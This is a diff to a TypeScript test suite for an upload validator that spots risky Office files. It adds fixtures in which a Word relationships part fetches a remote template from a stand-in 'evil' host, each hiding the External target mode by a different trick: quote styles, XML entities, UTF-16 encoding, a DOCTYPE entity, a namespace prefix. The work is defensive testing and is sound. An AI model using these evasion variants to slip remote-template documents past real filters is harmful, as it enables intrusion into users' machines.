@@ -5,11 +5,11 @@ import { zipOf } from '#tests/support/outside/zip.ts'
 import { documentFrom, documentName } from './sent-document.ts'
 import { sitePictureFrom } from './sent-picture.ts'
 
-function officeFile(parts: Record<string, string>): Buffer {
+function officeFile(parts: Record<string, string | Buffer>): Buffer {
   return zipOf(
     new Map(
       Object.entries({ '[Content_Types].xml': '<Types/>', ...parts }).map(([name, text]) => {
-        const plain = Buffer.from(text)
+        const plain = Buffer.from(text as string)
         return [name, { packed: deflateRawSync(plain), size: plain.length, crc: crc32(plain) }]
       }),
     ),
@@ -19,6 +19,9 @@ function officeFile(parts: Record<string, string>): Buffer {
 const RELATIONS = 'word/_rels/settings.xml.rels'
 const relation = (type: string) =>
   `<Relationship Type="http://x/${type}" Target="https://evil/" TargetMode="External"/>`
+const pointing = (mode: string, type = 'attachedTemplate') =>
+  `<?xml version="1.0"?><Relationships><Relationship Type="http://x/${type}" Target="https://evil/" ${mode}/></Relationships>`
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')
 const WORD = { 'word/document.xml': '<w/>' }
 const EXCEL = { 'xl/workbook.xml': '<w/>' }
 
@@ -32,6 +35,13 @@ test.each<[string, Buffer, string | undefined]>([
   ['an Excel file',                   officeFile(EXCEL),                                                  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
   ['one with macros',                 officeFile({ ...WORD, 'word/vbaProject.bin': 'x' }),                undefined],
   ['one that fetches its template',   officeFile({ ...WORD, [RELATIONS]: relation('attachedTemplate') }), undefined],
+  ['one that hides it in single quotes', officeFile({ ...WORD, [RELATIONS]: pointing("TargetMode='External'") }), undefined],
+  ['one that hides it in entities',   officeFile({ ...WORD, [RELATIONS]: pointing('TargetMode="&#69;xtern&#x61;l"') }), undefined],
+  ['one that hides it in UTF-16',     officeFile({ ...WORD, [RELATIONS]: utf16(pointing('TargetMode="External"')) }), undefined],
+  ['one in UTF-16 without its mark',  officeFile({ ...WORD, [RELATIONS]: utf16(pointing('TargetMode="External"')).subarray(2) }), undefined],
+  ['one with entities of its own',    officeFile({ ...WORD, [RELATIONS]: `<!DOCTYPE a [<!ENTITY e "External">]>${pointing('TargetMode="&e;"')}` }), undefined],
+  ['one with a prefix before it',     officeFile({ ...WORD, [RELATIONS]: pointing('TargetMode="External"').replaceAll('Relationship ', 'r:Relationship ') }), undefined],
+  ['one with links, in UTF-16',       officeFile({ ...WORD, [RELATIONS]: utf16(pointing("TargetMode='External'", 'hyperlink')) }), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
   ['one with something embedded',     officeFile({ ...EXCEL, 'xl/embeddings/a.bin': 'x' }),               undefined],
   ['one that reads other sheets',     officeFile({ ...EXCEL, 'xl/externalLinks/1.xml': 'x' }),            undefined],
   ['a zip of anything',               officeFile({ 'a.exe': 'x' }),                                       undefined],
